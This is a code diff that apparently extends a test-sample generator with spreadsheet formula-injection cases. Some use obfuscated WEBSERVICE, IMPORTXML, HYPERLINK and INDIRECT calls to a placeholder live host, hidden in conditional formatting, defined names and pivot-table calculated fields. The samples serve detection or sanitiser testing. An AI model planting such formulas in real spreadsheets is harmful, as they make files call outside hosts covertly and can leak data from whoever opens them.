@@ -103,6 +103,10 @@ const CODES: Readonly<Record<string, string>> = {
   HYPERLINK: `HYPERLINK("file://${LIVE}/x","a")`,
   'joined-link': `HYPERLINK("fi"&"le://${LIVE}/x","a")`,
   FILTERXML: `_xlfn.FILTERXML("${LIVE_URL}","//a")`,
+  'given-function': `_xlfn.LET(_xlpm.f,_xlfn.WEBSERVICE,_xlpm.f("${LIVE_URL}"))`,
+  'exported-load': `IFERROR(__xludf.DUMMYFUNCTION("IMPORTXML(""${LIVE_URL}"",""//a"")"),"x")`,
+  indirect: `INDIRECT("'file:///${LIVE}/x.ods'#$S.A1")`,
+  'joined-indirect': `INDIRECT("'"&"\\\\${LIVE}"&"\\[x.xlsx]S'!A1")`,
 };
 const sheetFunction: Generator = (line, format) => {
   if (format !== 'xlsx') return [];
@@ -125,12 +129,37 @@ const sheetFunction: Generator = (line, format) => {
     condition: {
       body: `<conditionalFormatting sqref="A1"><cfRule type="expression" priority="1"><formula>${marked}</formula></cfRule></conditionalFormatting>`,
     },
+    'colour scale': {
+      body: `<conditionalFormatting sqref="A1"><cfRule type="colorScale" priority="1"><colorScale><cfvo type="formula" val="${marked}"/><cfvo type="max"/><color rgb="FFFF0000"/><color rgb="FF00FF00"/></colorScale></cfRule></conditionalFormatting>`,
+    },
     'defined name': name('name="a"', marked),
     'extension list': {
       body: `<extLst><ext uri="{78C0D931-6437-407d-A8EE-F0AAD7539E65}" xmlns:x14="http://schemas.microsoft.com/office/spreadsheetml/2009/9/main"><x14:conditionalFormattings><x14:conditionalFormatting xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"><x14:cfRule type="expression" priority="2" id="{1}"><xm:f>${marked}</xm:f></x14:cfRule><xm:sqref>A1</xm:sqref></x14:conditionalFormatting></x14:conditionalFormattings></ext></extLst>`,
     },
   };
   return Object.entries(drafts).map(([encoding, draft]) => ({ encoding, content: pack('xlsx', draft) }));
+};
+
+/** A field or an item of a pivot table that a formula calculates. */
+const calculatedField = (inner: string): OfficeDraft => ({
+  main: '<pivotCaches><pivotCache cacheId="1" r:id="x1"/></pivotCaches>',
+  mainLinks: [{ type: `${OD}pivotCacheDefinition`, target: 'pivotCache/p.xml', id: 'x1' }],
+  parts: [
+    {
+      name: 'xl/pivotCache/p.xml',
+      content: `<?xml version="1.0"?><pivotCacheDefinition xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" ${NAMESPACES}><cacheSource type="worksheet"><worksheetSource ref="A1:B2" sheet="Sheet1"/></cacheSource>${inner}</pivotCacheDefinition>`,
+      contentType: 'application/vnd.openxmlformats-officedocument.spreadsheetml.pivotCacheDefinition+xml',
+    },
+  ],
+});
+const LIVE_CALL = `WEBSERVICE(&quot;${LIVE_URL}&quot;)`;
+const CALCULATED: Readonly<Record<string, OfficeDraft>> = {
+  cacheField: calculatedField(
+    `<cacheFields count="1"><cacheField name="a" databaseField="0" formula="${LIVE_CALL}"/></cacheFields>`,
+  ),
+  calculatedItem: calculatedField(
+    `<cacheFields count="0"/><calculatedItems count="1"><calculatedItem formula="${LIVE_CALL}"/></calculatedItems>`,
+  ),
 };
 
 const listed = (drafts: Readonly<Record<string, OfficeDraft>>): Generator =>
@@ -157,4 +186,6 @@ export const sheetSamples: Readonly<Record<string, Generator>> = {
   })),
   'sheet/function': sheetFunction,
   'sheet/new-function': sheetFunction,
+  'sheet/text-as-reference': sheetFunction,
+  'sheet/calculated-field': listed(CALCULATED),
 };
